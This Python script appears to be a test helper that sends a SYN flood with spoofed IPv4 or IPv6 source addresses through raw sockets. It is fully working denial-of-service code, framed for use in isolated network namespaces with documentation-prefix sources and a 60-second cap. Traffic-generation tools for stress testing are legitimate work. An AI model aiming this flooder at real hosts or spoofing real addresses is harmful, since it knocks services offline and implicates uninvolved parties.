#!/usr/bin/python3
"""A SYN flood from spoofed sources, IPv4 or IPv6, as fast as one core
sends: hping3 --flood does IPv4 only. Run only inside a network namespace
a test or script created:

  /usr/bin/python3 scripts/craft/synflood.py --to ADDR [--port 7]
      [--from ADDR] [--seconds 8] [--sources 1] [--count N]

Every SYN has its own source port (and, with --sources N, one of N
source addresses counting up from --from), as hping3 --flood -S does.
The packets are built once, before the clock starts (checksums
included), and sent round-robin through a raw socket (IP_HDRINCL; an
IPv6 IPPROTO_RAW socket takes the whole header too), so the rate is the
kernel's, not Python's packet building. Spoofed sources stay in the
documentation prefixes (192.0.2.0/24, 2001:db8::/32).

Prints "sent N SYNs in S s (R/s)" when done; bounded by --seconds, and
by --count SYNs when given.
"""
import argparse
import ipaddress
import socket
import struct
import sys
import time

PACKETS = 8192


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_syn(src, dst, sport, dport, seq, pseudo_header):
    # SYN with MSS 1460, as hping3's bare SYN plus the option every
    # real client sends.
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
    options = struct.pack("!BBH", 2, 4, 1460)
    segment = header + options
    csum = checksum(pseudo_header(src, dst, len(segment)) + segment)
    return segment[:16] + struct.pack("!H", csum) + segment[18:]


def pseudo_v4(src, dst, length):
    return src.packed + dst.packed + struct.pack("!BBH", 0, 6, length)


def pseudo_v6(src, dst, length):
    return src.packed + dst.packed + struct.pack("!I3xB", length, 6)


def packet_v4(src, dst, tcp):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, src.packed, dst.packed)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + tcp


def packet_v6(src, dst, tcp):
    return struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, src.packed, dst.packed) + tcp


def build(args):
    dst = ipaddress.ip_address(args.to)
    first = ipaddress.ip_address(args.src)
    if dst.version != first.version:
        sys.exit("--to and --from must be of one family")
    v6 = dst.version == 6
    packets = []
    for n in range(PACKETS):
        src = first + (n % args.sources)
        sport = 1024 + (n * 7919) % 64000
        seq = (n * 2654435761) & 0xFFFFFFFF
        tcp = tcp_syn(src, dst, sport, args.port, seq, pseudo_v6 if v6 else pseudo_v4)
        packets.append(packet_v6(src, dst, tcp) if v6 else packet_v4(src, dst, tcp))
    if v6:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        target = (str(dst), 0)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        target = (str(dst), 0)
    return sock, target, packets


def flood(sock, target, packets, seconds, count):
    sent = 0
    started = time.monotonic()
    deadline = started + seconds
    send = sock.sendto
    while True:
        for packet in packets:
            try:
                send(packet, target)
            except (BlockingIOError, OSError):
                # ENOBUFS from a full queue: the flood outruns the device.
                continue
            sent += 1
            if sent == count:
                return sent, time.monotonic() - started
        if time.monotonic() >= deadline:
            break
    return sent, time.monotonic() - started


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--to", required=True, help="the server's address")
    parser.add_argument("--port", type=int, default=7)
    parser.add_argument("--from", dest="src", default=None,
                        help="first spoofed source (default 192.0.2.9 or 2001:db8::9)")
    parser.add_argument("--sources", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=8.0)
    parser.add_argument("--count", type=int, default=None, help="stop after this many SYNs")
    args = parser.parse_args()
    if args.src is None:
        args.src = "2001:db8::9" if ":" in args.to else "192.0.2.9"
    if not 1 <= args.sources <= 65536 or not 0 < args.seconds <= 60:
        sys.exit("--sources is 1..65536 and --seconds at most 60")
    sock, target, packets = build(args)
    print("flooding", args.to, flush=True)
    sent, elapsed = flood(sock, target, packets, args.seconds, args.count)
    print(f"sent {sent} SYNs in {elapsed:.1f} s ({sent / elapsed:.0f}/s)", flush=True)


if __name__ == "__main__":
    main()
